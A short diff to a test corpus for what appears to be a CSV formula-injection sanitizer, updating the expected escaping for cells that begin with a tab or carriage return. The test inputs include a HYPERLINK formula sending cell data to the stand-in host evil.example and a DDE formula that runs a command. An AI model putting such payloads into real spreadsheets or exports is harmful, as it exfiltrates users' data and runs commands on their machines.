@@ -23,7 +23,8 @@ CSV_CORPUS = [
     ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
     ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
     ("+1+1", "'+1+1"), ("-1+2", "'-1+2"), ("@SUM(1,1)", "'@SUM(1,1)"),
-    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\x00=1+1", "'\x00=1+1"),
+    # TAB and CR also separate cells (or rows) for some programs: the piece after them too.
+    ("\t=1+1", "'\t'=1+1"), ("\r=1+1", "'\r'=1+1"), ("\x00=1+1", "'\x00=1+1"),
     (" =1+1", "' =1+1"), ("-5", "'-5"), ("a,b", "a,b"), ("line1\nline2", "line1\nline2"),
     ('"quoted"', '"quoted"'), ("Zoë", "Zoë"),
 ]
